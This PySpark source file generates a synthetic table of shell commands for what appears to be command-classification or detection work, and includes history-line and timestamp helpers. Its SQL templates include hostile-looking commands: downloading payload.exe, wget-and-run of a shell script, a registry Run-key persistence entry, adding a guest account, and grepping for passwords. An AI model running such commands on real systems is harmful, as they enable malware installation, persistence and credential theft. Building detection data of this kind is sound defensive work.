"""Sources: the commands table derived from events, history lines, last-comma files."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F
from pyspark.sql.types import NumericType, StringType

from cmdlake.functions.text import match_key

#: One command per event from dual-use templates; plain SQL, so that any engine derives the same rows.
COMMANDS_SQL = """
SELECT event_id, ts, 'h' || CAST(user_id AS STRING) AS host_id, 'u' || CAST(user_id % 40 AS STRING) AS user_name,
       'r' || CAST(user_id % 7 AS STRING) AS role, event_type AS parent_process, value,
       CASE event_id % 13
         WHEN 0 THEN 'ls -la /var/log'
         WHEN 1 THEN 'curl -o payload.exe http://10.0.' || CAST(event_id % 4 AS STRING) || '.' || CAST(user_id % 9 AS STRING) || '/payload.exe'
         WHEN 2 THEN 'ssh user' || CAST(user_id % 5 AS STRING) || '@192.168.1.' || CAST(event_id % 250 AS STRING)
         WHEN 3 THEN 'tar -czf backup.tar.gz /home/user' || CAST(user_id % 3 AS STRING) || '/data'
         WHEN 4 THEN 'cat /etc/passwd | grep root'
         WHEN 5 THEN 'systemctl enable nginx && systemctl start nginx'
         WHEN 6 THEN 'reg add HKCU' || chr(92) || 'Software' || chr(92) || 'Run /v Updater /d x.exe /f'
         WHEN 7 THEN 'python3 -c print(' || CAST(event_id % 3 AS STRING) || ')'
         WHEN 8 THEN 'wget https://files.example.org:8443/a' || CAST(user_id % 4 AS STRING) || '.sh -O /tmp/a.sh; sh /tmp/a.sh'
         WHEN 9 THEN 'export API_TOKEN=abc' || CAST(user_id AS STRING) || ' && deploy --token s3cr3t' || CAST(event_id % 5 AS STRING) || ' host.corp'
         WHEN 10 THEN '  Grep   -RIN  password   /srv/app || echo none  '
         WHEN 11 THEN 'scp report.csv user' || CAST(user_id % 6 AS STRING) || '@backup.internal:/data 2>> /tmp/err.log'
         ELSE 'net user guest /add'
       END AS command
FROM events
"""


def commands(spark: SparkSession, sf_dir: str) -> DataFrame:
    """event_id, ts, host_id, user_name, role, parent_process, value, command."""
    events = spark.read.parquet(f"{sf_dir}/events.parquet")
    return spark.sql(COMMANDS_SQL.replace("FROM events", "FROM {events}"), events=events)


def utc_time(df: DataFrame, name: str) -> Column:
    """A timestamp of seconds since 1970, of ISO text (UTC where it names no zone; other text is an error) or of a timestamp; now where null or absent."""
    if name not in df.columns:
        return F.current_timestamp()
    c, kind = F.col(name), df.schema[name].dataType
    if isinstance(kind, NumericType):
        c = F.timestamp_seconds(c)
    elif isinstance(kind, StringType):
        day = F.when(F.length(c) == 10, F.concat(c, F.lit("T00:00:00"))).otherwise(c)
        c = F.when(day.rlike(r"(Z|[+-]\d\d:?\d\d)$"), day).otherwise(F.concat(day, F.lit("Z")))
    return F.coalesce(c.cast("timestamp"), F.current_timestamp())


def execution_contexts(df: DataFrame) -> DataFrame:
    """df with a whole context: host_id, parent_process, user, timestamp, role, fleet, in_maintenance_window.

    Columns may be absent and values null; either takes the default.  All but the host are lower case without outer
    white space, and an empty role is null.
    """
    had = lambda name, default: F.coalesce(F.col(name).cast("string"), F.lit(default)) if name in df.columns else F.lit(default)
    role = had("role", "")
    return df.withColumns({
        "host_id": had("host_id", "unknown"),
        "parent_process": match_key(had("parent_process", "unknown")),
        "user": match_key(had("user", "unknown")),
        "timestamp": utc_time(df, "timestamp"),
        "role": F.when(role != "", match_key(role)),
        "fleet": match_key(had("fleet", "default")),
        "in_maintenance_window": F.coalesce(F.col("in_maintenance_window").cast("boolean"), F.lit(False)) if "in_maintenance_window" in df.columns else F.lit(False),
    })


def history_command(line: Column) -> Column:
    """A shell-history line without a zsh time prefix or a line number (starred if edited); null for blanks and comments."""
    bare = F.regexp_replace(F.regexp_replace(line, r"^\s*:\s*\d+:\d+;", ""), r"^\s*\d+\*?\s+", "")
    bare = F.regexp_replace(bare, r"^\s+|\s+$", "")
    return F.when((bare != "") & ~bare.startswith("#"), bare)


def last_comma(line: Column) -> Column:
    """struct(command, label) of a line whose command may hold commas: the last one divides."""
    return F.struct(
        F.regexp_extract(line, r"(?s)^(.*),([^,]*)$", 1).alias("command"), F.regexp_extract(line, r"(?s)^(.*),([^,]*)$", 2).alias("label")
    )
